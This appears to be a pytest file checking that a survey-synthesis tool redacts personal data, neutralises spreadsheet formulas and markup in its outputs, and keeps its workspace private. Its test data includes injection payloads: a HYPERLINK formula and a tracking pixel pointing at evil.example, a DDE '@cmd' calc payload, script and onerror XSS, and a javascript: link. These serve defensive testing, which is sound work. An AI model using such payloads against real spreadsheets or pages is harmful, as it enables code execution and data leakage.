"""Issue 10: hostile but realistic input. Personal data never reaches a shareable output,
research text never becomes a formula or markup, and the workspace is private.

Fast: fake splitter, embedder and describer over surveys and transcripts written here.
"""

from __future__ import annotations

import csv
import json
import os
import re
import stat
from pathlib import Path

import pytest

from synth.errors import SynthError
from synth.ingest import IngestOptions, ingest
from synth.ingest.readers import read_document
from synth.stages import Settings, run_icp, run_personas, run_report, run_themes
from synth.workspace import Workspace
from tests.conftest import FAKES, fake_splitter

ROLES = ["Backend developer", "Data engineer", "CTO, reach me: farah.khan@startup.io / "
         "+1 415 555 0199", "Frontend developer"]
SIZES = ["1-10", "11-50", "51-200"]
HOSTILE = [
    "=HYPERLINK(\"http://evil.example/steal\",\"open me\")",
    "- flaky builds; slow reviews and nobody owns the pipeline",
    "<script>alert(1)</script> the deploy tooling is slow",
    "<img src=x onerror=alert(1)> broken docs everywhere",
    "[click here](javascript:alert(1)) for the flaky tests",
    "![](http://evil.example/pixel.png?uid=42) reviews take days",
    "email me at ana.pereira@corp.example or call +44 20 7946 0958 about the slow builds",
    "our key sk-live-4f9a8b7c6d5e4f3a2b1c0d9e leaked in the flaky pipeline logs",
    "the AWS secret wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY was in a slow script",
    "+SUM(A1:A9) tells me the flaky tests cost hours",
    "@cmd|' /C calc'!A0 slow reviews again",
]
NAMES = ["Ana Pereira", "Ben Carter", "Daniel Okoro", "Farah Khan", "Chidi Eze", "Mei Lin"]


def write_survey(path: Path, respondents: int = 24) -> Path:
    rows = [["Response ID", "Full name", "Email", "Job title", "Company size",
             "What is the hardest part of your job?", "Which tools would help you most?"]]
    for i in range(respondents):
        name = NAMES[i % len(NAMES)]
        answer = (HOSTILE[i] if i < len(HOSTILE)
                  else f"slow flaky builds and long reviews slow the team down, week {i}")
        rows.append([f"R{i + 1:02d}", name, f"{name.split()[0].lower()}@example.org",
                     ROLES[i % len(ROLES)] if i != 2 else f"{name} / daniel.okoro@fernhill.io",
                     SIZES[i % len(SIZES)], answer,
                     f"a faster CI service and better docs search would help, team {i}"])
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    return path


def build(folder: Path, inputs: list[Path], keep_names: bool = False) -> Path:
    out = folder / "out"
    with Workspace.open(folder / "ws") as workspace:
        ingest(workspace, inputs, IngestOptions(), splitter=fake_splitter)
        settings = Settings(out=out, keep_names=keep_names)
        run_themes(workspace, settings, *FAKES)
        run_personas(workspace, settings, FAKES[0])
        run_icp(workspace, settings, FAKES[0])
        run_report(workspace, settings)
    return out


def outputs(out: Path) -> dict[str, str]:
    return {str(p.relative_to(out)): p.read_text(encoding="utf-8")
            for p in sorted(out.rglob("*")) if p.is_file()}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    return build(folder, [write_survey(folder / "in" / "survey.csv")])


# -- survey columns (items 3, 4) -----------------------------------------------------------------

def test_name_email_columns_are_identifiers_and_an_open_question_stays_text(tmp_path):
    document = read_document(write_survey(tmp_path / "survey.csv"))
    assert document.columns["Full name"] == "identifier"
    assert document.columns["Email"] == "identifier"
    assert document.columns["What is the hardest part of your job?"] == "text"
    assert document.names["survey:R01"] == "Ana Pereira"
    assert not any(turn.text in NAMES for turn in document.turns)


def test_one_semicolon_does_not_turn_free_text_into_an_attribute(tmp_path):
    document = read_document(write_survey(tmp_path / "survey.csv", respondents=24))
    question = "What is the hardest part of your job?"
    assert document.columns[question] == "text"
    assert all(question not in attributes for attributes in document.attributes.values())


def test_a_column_of_emails_or_phones_is_an_identifier_whatever_its_header(tmp_path):
    path = tmp_path / "s.csv"
    rows = [["id", "Reach", "What slows you down?"]] + [
        [str(i), f"+1 415 555 01{i:02d}" if i % 2 else f"user{i}@x.org",
         f"flaky builds slow us down {i}"] for i in range(12)]
    with path.open("w", newline="") as handle:
        csv.writer(handle).writerows(rows)
    assert read_document(path).columns["Reach"] == "identifier"


# -- nothing personal in outputs (items 2, 3, 5) ---------------------------------------------------

LEAKS = ["Pereira", "Carter", "Okoro", "Khan", "Chidi", "farah.khan@startup.io",
         "415 555 0199", "daniel.okoro", "ana.pereira@corp.example", "7946 0958",
         "sk-live-4f9a8b7c6d5e4f3a2b1c0d9e", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
         "@example.org"]


def test_no_name_contact_or_secret_reaches_any_output(hostile):
    assert "report.html" in outputs(hostile)
    found = {(name, leak) for name, text in outputs(hostile).items()
             for leak in LEAKS if leak in text}
    assert found == set()


def test_attribute_values_are_redacted_in_participants_csv_and_cards(hostile):
    rows = list(csv.DictReader((hostile / "participants.csv").open(encoding="utf-8")))
    titles = {row["Job title"] for row in rows}
    assert any("[email]" in title and "[phone]" in title for title in titles)
    assert "Full name" not in rows[0] and "Email" not in rows[0]
    assert "[email]" in json.dumps(json.loads((hostile / "personas.json").read_text()))


# -- injection (items 8, 9) ----------------------------------------------------------------------

def test_no_csv_cell_starts_like_a_formula(hostile):
    for name in ("units.csv", "participants.csv"):
        with (hostile / name).open(encoding="utf-8", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        assert cells, name
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], name
    units = (hostile / "units.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in units and "'- flaky builds" in units


def test_markdown_outputs_show_answers_as_text(hostile):
    markup = re.compile(r"(?<!\\)<(script|img)|(?<!\\)\]\(javascript:|(?<!\\)!(?<!\\)\[")
    checked = 0
    for name, text in outputs(hostile).items():
        if name.endswith(".md"):
            checked += 1
            assert not markup.search(text), (name, markup.search(text))
    assert checked >= 4


def test_lead_scores_neutralise_formulas():
    from synth.render import csv_cell

    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell("-3") == "-3" and csv_cell("+1.5") == "+1.5"
    assert csv_cell("- a list item") == "'- a list item"
    assert csv_cell("@SUM(A1)") == "'@SUM(A1)" and csv_cell("plain") == "plain"


# -- surnames (item 1) ---------------------------------------------------------------------------

INTRO = """ALEX: Could you say your name for the recording?

ERNEST: Sure. I am Ernest Kazil, and I maintain a packaging tool.

ALEX: What slows you down?

ERNEST: Kazil is my family name, and releases slow me down every week because the index is slow.

ALEX: Who else helps?

ERNEST: My colleague helps with the flaky release builds most weeks.
"""


def test_a_surname_said_beside_a_name_is_redacted_everywhere(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "ernest-1.md").write_text(INTRO, encoding="utf-8")
    (folder / "survey.csv").parent.mkdir(exist_ok=True)
    write_survey(folder / "survey.csv")
    out = build(tmp_path, [folder])
    units = (out / "units.csv").read_text(encoding="utf-8")
    assert "I am [P" in units
    assert "Kazil" not in units and "Ernest" not in units


# -- interrupted ingest (item 6) -----------------------------------------------------------------

def test_stages_refuse_statements_without_participants(tmp_path):
    path = write_survey(tmp_path / "in" / "survey.csv")
    with Workspace.open(tmp_path / "ws") as workspace:
        ingest(workspace, [path], IngestOptions(), splitter=fake_splitter)
        with workspace.transaction() as db:
            db.execute("DELETE FROM participants")    # what an old interrupted ingest left
        with pytest.raises(SynthError, match="participants are missing"):
            run_themes(workspace, Settings(out=tmp_path / "out"), *FAKES)
    assert not (tmp_path / "out").exists()


def test_an_interrupted_ingest_leaves_every_written_file_with_its_people(tmp_path):
    folder = tmp_path / "in"
    write_survey(folder / "a.csv")
    (folder / "ernest-1.md").write_text(INTRO, encoding="utf-8")

    def interrupt(stage: str, done: int, total: int, path: str) -> None:
        if stage == "segmenting" and 0 < done < total:   # after the first file is written
            raise KeyboardInterrupt

    with Workspace.open(tmp_path / "ws") as workspace:
        with pytest.raises(KeyboardInterrupt):
            ingest(workspace, [folder], IngestOptions(), progress=interrupt,
                   splitter=fake_splitter)
        orphans = workspace.query("SELECT COUNT(*) AS n FROM units WHERE participant_id"
                                  " NOT IN (SELECT id FROM participants)")[0]["n"]
        units = workspace.query("SELECT COUNT(*) AS n FROM units")[0]["n"]
    assert units > 0 and orphans == 0


# -- the workspace is private (item 7) -----------------------------------------------------------

def test_workspace_folder_700_and_database_600_under_the_default_umask(tmp_path):
    previous = os.umask(0o022)
    try:
        with Workspace.open(tmp_path / "ws"):
            pass
    finally:
        os.umask(previous)
    assert stat.S_IMODE((tmp_path / "ws").stat().st_mode) == 0o700
    assert stat.S_IMODE((tmp_path / "ws" / "synth.db").stat().st_mode) == 0o600
